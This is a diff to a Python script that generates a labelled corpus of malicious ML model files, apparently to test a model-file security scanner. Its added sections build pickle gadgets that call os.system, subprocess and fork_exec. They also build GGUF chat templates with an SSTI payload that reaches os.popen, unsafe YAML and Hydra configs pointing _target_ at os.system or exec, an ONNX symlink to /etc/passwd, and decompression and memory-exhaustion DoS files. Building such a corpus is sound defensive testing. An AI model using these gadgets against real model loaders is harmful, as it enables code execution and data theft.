@@ -458,6 +458,124 @@ write("j_mlflow_extra_index/MLmodel", "flavors:\n  python_function:\n    env:\n 
 write("j_mlflow_extra_index/conda.yaml", "dependencies:\n- python=3.11\n- pip:\n  - --extra-index-url http://127.0.0.1:9/simple\n  - mlsec-blind4-backdoor==1.0\nname: env\n",
       "J loader config", "conda.yaml pip --extra-index-url (scope)")
 
+# ------------------------------------------------------------------ K. second round: more innocent-sounding gadgets (after the first scan)
+K = [
+    ("k_torch_storage_load_from_bytes.pkl", call(g("torch.storage", "_load_from_bytes"), by(nested_zip)), "torch.storage._load_from_bytes(b) is torch.load(BytesIO(b)) of a nested torch zip"),
+    ("k_numpy_memmap_truncate.pkl", call(g("numpy", "memmap"), u(TMP + "_mm"), u("uint8"), u("w+"), i1(0), t(i1(16))), "numpy.memmap(path, mode='w+') creates/overwrites a file"),
+    ("k_numpy_ctypeslib_load_library.pkl", call(g("numpy.ctypeslib", "load_library"), u("libmlsec_blind4"), u("/tmp")), "numpy.ctypeslib.load_library loads a shared object (runs its constructors)"),
+    ("k_ctypes_dlopen.pkl", call(g("_ctypes", "dlopen"), u(TMP + ".so"), i1(2)), "_ctypes.dlopen(path) loads a shared object"),
+    ("k_scipy_wavfile_write.pkl", call(g("scipy.io.wavfile", "write"), u(TMP + ".wav"), b"M" + struct.pack("<H", 8000), call(g("numpy", "zeros"), i1(4))), "scipy.io.wavfile.write(path) writes a file"),
+    ("k_scipy_fortranfile_w.pkl", call(g("scipy.io", "FortranFile"), u(TMP + ".f"), u("w")), "scipy.io.FortranFile(path, 'w') truncates"),
+    ("k_h5py_file_w.pkl", call(g("h5py", "File"), u(TMP + ".h5"), u("w")), "h5py.File(path, 'w') truncates any file"),
+    ("k_sklearn_fetch_california.pkl", call(g("sklearn.datasets", "fetch_california_housing"), u(TMP + "_data")), "fetch_california_housing downloads and joblib.loads its cache"),
+    ("k_statsmodels_get_rdataset.pkl", call(g("statsmodels.datasets", "get_rdataset"), u("x"), u("mlsec")), "statsmodels get_rdataset fetches"),
+    ("k_sympy_autowrap.pkl", call(g("sympy.utilities.autowrap", "autowrap"), call(g("sympy", "Symbol"), u("x"))), "sympy autowrap compiles and imports an extension"),
+    ("k_sympy_run_in_subprocess.pkl", call(g("sympy.testing.runtests", "run_in_subprocess_with_hash_randomization"), u("system"), t(u(CMD)), b"}", u("/usr/bin/python3"), u("os"), b"\x88"),
+     "sympy runs python -c 'import os; os.system(...)' in a subprocess"),
+    ("k_onnx_hub_load.pkl", call(g("onnx.hub", "load"), u("mlsec-blind4")), "onnx.hub.load downloads a model (path traversal CVE class)"),
+    ("k_yaml_unsafe_load.pkl", call(g("yaml", "unsafe_load"), u("!!python/object/apply:os.system ['echo mlsec-blind4']")), "yaml.unsafe_load of a python/object/apply document"),
+    ("k_yaml_load_unsafe_loader.pkl", call(g("yaml", "load"), u("!!python/object/apply:os.system ['echo mlsec-blind4']"), g("yaml", "UnsafeLoader")), "yaml.load(s, UnsafeLoader)"),
+    ("k_jsonpickle_decode.pkl", call(g("jsonpickle", "decode"), u('{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["echo mlsec-blind4"]}]}')), "jsonpickle.decode runs py/reduce"),
+    ("k_dill_loads.pkl", call(g("dill", "loads"), by(P(call(g("os", "system"), u(CMD))))), "dill.loads nested"),
+    ("k_cloudpickle_loads.pkl", call(g("cloudpickle", "loads"), by(P(call(g("os", "system"), u(CMD))))), "cloudpickle.loads nested"),
+    ("k_logging_config_listen.pkl", call(g("threading", "Thread.start"), call(g("logging.config", "listen"), i1(0))), "Thread.start(logging.config.listen(0)): a socket server that accepts logging configs"),
+    ("k_logging_config_resolve.pkl", call(call(g("logging.config", "_resolve"), u("os.system")), u(CMD)), "logging.config._resolve(dotted) is a universal importer"),
+    ("k_distutils_run_setup.pkl", call(g("distutils.core", "run_setup"), u(TMP + "_setup.py")), "distutils.core.run_setup execs a script"),
+    ("k_py_compile_plant.pkl", call(g("py_compile", "compile"), u(TMP + ".py"), u("/tmp/mlsec_blind4_site/sitecustomize.pyc")), "py_compile.compile plants a .pyc anywhere"),
+    ("k_xml_sax_parse_url.pkl", call(g("xml.sax", "parse"), u(URL), call(g("xml.sax.handler", "ContentHandler"))), "xml.sax.parse(URL) fetches"),
+    ("k_http_client_connect.pkl", call(g("http.client", "HTTPConnection.connect"), call(g("http.client", "HTTPConnection"), u("127.0.0.1"), i1(9))), "unbound HTTPConnection.connect on a rebuilt connection"),
+    ("k_poplib_pop3.pkl", call(g("poplib", "POP3"), u("127.0.0.1"), i1(9)), "poplib.POP3 connects"),
+    ("k_nntplib_nntp.pkl", call(g("nntplib", "NNTP"), u("127.0.0.1"), i1(9)), "nntplib.NNTP connects"),
+    ("k_socket_create_connection.pkl", call(g("socket", "create_connection"), t(u("127.0.0.1"), i1(9))), "socket.create_connection"),
+    ("k_posixsubprocess_fork_exec.pkl", call(g("_posixsubprocess", "fork_exec"), lst(by(b"/bin/echo")), t(by(b"/bin/echo")), b"\x88", b")", none, none, b"J\xff\xff\xff\xff" * 6,
+                                             b"J\xff\xff\xff\xff" * 2, b"\x89", b"\x89", none, none, none, b"J\xff\xff\xff\xff", none, b"\x89"), "_posixsubprocess.fork_exec (the C primitive under subprocess)"),
+    ("k_time_sleep_forever.pkl", call(g("time", "sleep"), b"J\xff\xff\xff\x7f"), "time.sleep(2**31-1): the loader hangs (DoS)"),
+    ("k_faulthandler_sigsegv.pkl", call(g("faulthandler", "_sigsegv")), "faulthandler._sigsegv() crashes the loader"),
+    ("k_sys_exit.pkl", call(g("sys", "exit"), i1(0)), "sys.exit(0) ends the loading process"),
+    ("k_memo_callable_reuse.pkl", b"}" + u("k") + g("subprocess", "getoutput") + b"\x94" + b"s0" + b"h\x00" + u(CMD) + b"\x85R", "callable first stored as a dict value (memoized), called later via BINGET"),
+    ("k_text_put_get_stack_global.pkl", b"S'os'\np0\n0S'system'\np1\n0g0\ng1\n\x93" + u(CMD) + b"\x85R", "STACK_GLOBAL from protocol-0 PUT/GET memo"),
+    ("k_rebuild_from_type_v2.pkl", call(g("torch._tensor", "_rebuild_from_type_v2"), g("subprocess", "getoutput"), g("torch", "Tensor"), t(u(CMD)), b"}"),
+     "torch._tensor._rebuild_from_type_v2(func, type, args, state) calls func(*args)"),
+    ("k_torch_rebuild_tensor_hooks.pkl", call(g("torch._utils", "_rebuild_tensor_v2"), call(g("torch", "FloatStorage")), i1(0), t(), t(), b"\x89",
+                                              call(g("collections", "OrderedDict"), lst(t(i1(0), call(g("os", "system"), u(CMD)))))),
+     "the call hides in _rebuild_tensor_v2's backward_hooks OrderedDict"),
+]
+for name, body, what in K:
+    write(name, P(body), "K gadget (round 2)", what)
+
+# ------------------------------------------------------------------ L. second round: parsers of other formats
+def gguf_full(kvs, big_endian=False):
+    e = ">" if big_endian else "<"
+    out = b"GGUF" + struct.pack(e + "IQQ", 3, 0, len(kvs))
+    for k, typ, v in kvs:
+        kb = k.encode()
+        out += struct.pack(e + "Q", len(kb)) + kb + struct.pack(e + "I", typ)
+        if typ == 8:
+            vb = v.encode(); out += struct.pack(e + "Q", len(vb)) + vb
+        elif typ == 9:  # array of strings
+            out += struct.pack(e + "IQ", 8, len(v))
+            for it in v:
+                ib = it.encode(); out += struct.pack(e + "Q", len(ib)) + ib
+        elif typ == 4:
+            out += struct.pack(e + "I", v)
+    return out
+
+
+SSTI = BASE + "{{ cycler.__init__.__globals__.os.popen('echo mlsec-blind4').read() }}"
+write("l_gguf_big_endian.gguf", gguf_full([("general.architecture", 8, "llama"), ("tokenizer.chat_template", 8, SSTI)], big_endian=True), "L parser", "big-endian GGUF v3 with an SSTI template")
+write("l_gguf_template_after_token_array.gguf", gguf_full([("general.architecture", 8, "llama"), ("llama.context_length", 4, 4096),
+                                                           ("tokenizer.ggml.tokens", 9, ["<s>", "</s>"] + [f"tok{i}" for i in range(300)]), ("tokenizer.chat_template", 8, SSTI)]),
+      "L parser", "GGUF whose template follows a 302-string token array")
+raw = json.dumps({"chat_template": SSTI})
+write("l_tokenizer_json_unicode_escapes/tokenizer_config.json", raw.replace("__", "\\u005f\\u005f"), "L parser", "the template's underscores written as JSON \\u005f escapes")
+cfg = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [
+    {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": base64.b64encode(b"\xe3fake-marshal-mlsec-blind4").decode(), "defaults": None, "closure": None}}}}]}}
+write("l_keras_zip64_lambda.keras", zip64_archive([("metadata.json", b'{"keras_version": "3.8.0"}'), ("config.json", json.dumps(cfg).encode())]), "L parser", ".keras as ZIP64 with a Lambda layer")
+write("l_keras_deflated_lambda.keras", zbytes([("metadata.json", b'{"keras_version": "3.8.0"}'), ("config.json", json.dumps(cfg).encode())], zipfile.ZIP_DEFLATED), "L parser", "deflated .keras with a Lambda layer")
+write("l_yaml_python_apply.yaml", "model: !!python/object/apply:os.system ['echo mlsec-blind4']\n", "L parser", "a YAML config with a python/object/apply tag (yaml.unsafe_load / old full_load)")
+write("l_joblib_zlib_named_joblib.joblib", zlib.compress(EVIL), "L parser", "zlib-compressed joblib")
+
+# ------------------------------------------------------------------ M. third round: allowlisted-looking calls used for DoS, and loader formats
+import bz2
+comp = bz2.BZ2Compressor(9)
+chunk = b"\0" * (1 << 20)
+bomb = b"".join(comp.compress(chunk) for _ in range(256)) + comp.flush()  # 256 MiB of zeros
+M = [
+    ("m_codecs_bz2_bomb.pkl", call(g("_codecs", "decode"), by(bomb), u("bz2_codec")), "_codecs.decode(bz2 bomb, 'bz2_codec'): 256 MiB from 200 bytes via the codec numpy pickles use"),
+    ("m_codecs_zlib_codec.pkl", call(g("_codecs", "decode"), by(zlib.compress(b"\0" * (1 << 24), 9)), u("zlib_codec")), "_codecs.decode with zlib_codec (decompression through an allow-listed-looking call)"),
+    ("m_bytearray_huge.pkl", call(g("builtins", "bytearray"), b"\x8a\x05\x00\x00\x00\x00\x04"), "builtins.bytearray(2**34): 16 GiB allocation at load (DoS)"),
+    ("m_reconstruct_huge_shape.pkl", call(g("numpy.core.multiarray", "_reconstruct"), g("numpy", "ndarray"), t(b"\x8a\x05\x00\x00\x00\x00\x04"), by(b"b")), "numpy _reconstruct with a 2**34-element shape (DoS)"),
+]
+for name, body, what in M:
+    write(name, P(body), "M allow-listed-looking DoS", what)
+
+# ONNX external data through a symlink in the model folder (GHSA-style symlink escape)
+os.makedirs(os.path.join(OUT, "m_onnx_symlink"), exist_ok=True)
+tensor = fld(1, 0, 4) + fld(2, 0, 1) + s(8, "W") + s(13, s(1, "location") + s(2, "weights.bin")) + fld(14, 0, 1)
+write("m_onnx_symlink/model.onnx", onnx_model([node("X", "Y", "Identity")], [fld(2, 0, 17)], ext_init=tensor), "M loader format", "external data 'weights.bin' is a symlink to /etc/passwd")
+os.symlink("/etc/passwd", os.path.join(OUT, "m_onnx_symlink", "weights.bin"))
+# the symlink itself is not a MANIFEST row: the scanner does not follow links; model.onnx is the file to flag
+# torch.export .pt2 archive whose constants are a nested torch zip
+write("m_export_nested.pt2", zbytes([("archive/version", b"1"), ("archive/models/model.json", b"{}"), ("archive/data/constants/model_constants.pt", nested_zip)]),
+      "M loader format", ".pt2 archive holding a nested torch zip that torch.load reads")
+# TorchServe .mar: MANIFEST names a handler shipped in the archive
+write("m_torchserve.mar", zbytes([("MAR-INF/MANIFEST.json", json.dumps({"runtime": "python", "model": {"modelName": "m", "handler": "handler.py", "serializedFile": "model.pt"}}).encode()),
+                                  ("handler.py", MOD.encode()), ("model.pt", torch_zip(BENIGN_PKL))]), "M loader format", "TorchServe .mar whose handler.py runs at model load")
+# NeMo / Hydra: _target_ is instantiated by hydra.utils.instantiate (CVE-2025-23304 class)
+HYD = "model:\n  _target_: os.system\n  _args_: ['echo mlsec-blind4']\n  train_ds:\n    batch_size: 8\n"
+tb = io.BytesIO()
+with tarfile.open(fileobj=tb, mode="w:") as tf:
+    for n, d in (("./model_config.yaml", HYD.encode()), ("./model_weights.ckpt", torch_zip(BENIGN_PKL))):
+        ti = tarfile.TarInfo(n); ti.size = len(d); ti.mtime = 0
+        tf.addfile(ti, io.BytesIO(d))
+write("m_nemo_hydra_target.nemo", tb.getvalue(), "M loader format", ".nemo tar whose model_config.yaml _target_ is os.system (hydra instantiate)")
+write("m_hydra_config/config.yaml", "defaults:\n  - _self_\nmodel:\n  _target_: subprocess.getoutput\n  _args_:\n    - echo mlsec-blind4\n", "M loader format", "Hydra config _target_ subprocess.getoutput")
+write("m_hydra_config/model_config.yaml", "trainer:\n  callbacks:\n    - _target_: builtins.exec\n      _args_: [\"print('mlsec-blind4')\"]\n", "M loader format", "Hydra nested _target_ builtins.exec")
+# skops: schema.json naming a function node
+sk = {"__class__": "function", "__module__": "builtins", "__loader__": "FunctionNode", "__id__": 1, "protocol": 1, "_skops_version": "0.9.0",
+      "content": {"module_path": "os", "function": "system"}}
+write("m_skops_function_node.skops", zbytes([("schema.json", json.dumps(sk).encode())], zipfile.ZIP_DEFLATED), "M loader format", "skops schema FunctionNode os.system (loads when trusted; CVE-2025-54412 class)")
+
 with open(os.path.join(OUT, "MANIFEST.tsv"), "w") as f:
     f.write("file\tclass\twhat\texpected\n")
     for r in sorted(ROWS):
